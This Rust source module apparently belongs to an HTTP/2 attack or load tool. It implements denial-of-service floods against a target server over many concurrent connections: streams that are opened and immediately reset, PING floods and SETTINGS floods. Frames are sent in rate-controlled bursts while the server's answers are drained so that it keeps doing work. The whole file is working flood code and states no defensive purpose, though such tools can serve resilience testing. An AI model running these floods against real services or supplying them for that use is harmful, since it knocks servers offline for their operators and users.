//! Floods of frames that cost the server an answer or a call each.

use std::time::Duration;

use tokio::{
    io::{AsyncRead, AsyncWrite, AsyncWriteExt as _, copy, sink, split},
    time::{MissedTickBehavior, interval},
};

use super::{
    attack::{Aim, Attack},
    attacker::Broken,
    calls::RANK,
    frames::{HELLO, PING, SETTINGS, headers, reset},
};

/// What a flood consists of.
#[derive(Clone, Copy, Debug)]
pub enum Flood {
    /// Calls that are reset immediately.
    Resets,
    /// Pings.
    Pings,
    /// Settings.
    Settings,
}

/// Bursts per second.
const BURSTS: u32 = 20;

/// Sends this number of frames per second on each connection.
pub fn flood(aim: &Aim, connections: usize, flood: Flood, per_second: u32) -> Attack {
    Attack::start(aim, connections, move |attacker| async move {
        let (reader, writer) = split(attacker.connect().await?);
        tokio::select! {
            result = send(writer, flood, per_second / BURSTS) => result,
            result = discard(reader) => result,
        }
    })
}

/// Reads answers, so that the server can write more, until the server closes the connection.
async fn discard(mut reader: impl AsyncRead + Unpin) -> Result<(), Broken> {
    copy(&mut reader, &mut sink()).await?;
    Ok(())
}

async fn send(mut writer: impl AsyncWrite + Unpin, flood: Flood, burst: u32) -> Result<(), Broken> {
    writer.write_all(HELLO).await?;
    let mut ticks = interval(Duration::from_secs(1) / BURSTS);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    for first in (0..).step_by(burst as usize) {
        ticks.tick().await;
        let frames: Vec<u8> = (first..first + burst)
            .flat_map(|number| frames(flood, number))
            .collect();
        writer.write_all(&frames).await?;
    }
    Ok(())
}

fn frames(flood: Flood, number: u32) -> Vec<u8> {
    // Clients number their streams 1, 3, 5 and so on.
    let stream = 2 * number + 1;
    match flood {
        Flood::Resets => [headers(stream, RANK), reset(stream)].concat(),
        Flood::Pings => PING.to_vec(),
        Flood::Settings => SETTINGS.to_vec(),
    }
}
